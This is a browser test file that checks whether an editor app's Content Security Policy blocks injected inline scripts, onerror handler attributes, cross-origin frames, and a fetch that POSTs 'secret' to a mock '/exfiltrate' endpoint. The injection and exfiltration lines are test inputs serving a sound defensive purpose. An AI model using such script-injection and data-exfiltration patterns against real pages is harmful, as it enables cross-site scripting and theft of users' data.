/**
 * The page's Content Security Policy holds in real Chromium (the browser-mode host; the Electron
 * window is served the same policy minus the WebSocket, see main/contract/security-headers.ts):
 * injected inline scripts and event-handler attributes do not run, the page cannot connect or post to another origin,
 * and plugins and frames are refused; the editor itself still runs under it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openStudio, type StudioSession } from './support/studio.ts';

let studio: StudioSession;

beforeAll(async () => {
  studio = await openStudio();
});

afterAll(async () => {
  await studio?.close();
});

describe('content security policy', () => {
  it('blocks injected scripts, foreign connections and frames while the editor runs', async () => {
    const { page } = studio;
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const w = window as unknown as Record<string, unknown>;
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true;';
      document.body.append(inline);
      const handler = document.createElement('img');
      handler.setAttribute('onerror', 'window.__handlerRan = true');
      handler.src = 'data:,broken';
      document.body.append(handler);
      let fetched: string;
      try {
        await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'secret' });
        fetched = 'sent';
      } catch (e) {
        fetched = (e as Error).name;
      }
      const frame = document.createElement('iframe');
      frame.src = 'https://example.com/';
      document.body.append(frame);
      await new Promise((r) => setTimeout(r, 500));
      return { inlineRan: w.__inlineRan === true, handlerRan: w.__handlerRan === true, fetched, violations: [...new Set(violations)].sort() };
    });
    // (eval is not tried here: code Playwright evaluates is exempt from the page's eval rule.)
    expect(outcome.inlineRan).toBe(false);
    expect(outcome.handlerRan).toBe(false);
    expect(outcome.fetched).toBe('TypeError');
    expect(outcome.violations).toEqual(expect.arrayContaining(['connect-src', 'script-src-elem', 'script-src-attr']));
    expect(outcome.violations.some((d) => d === 'frame-src' || d === 'child-src' || d === 'default-src')).toBe(true);
    // The editor still works under the policy: connected to its host.
    await page.getByText(/browser · v/).waitFor({ timeout: 10_000 });
  });
});
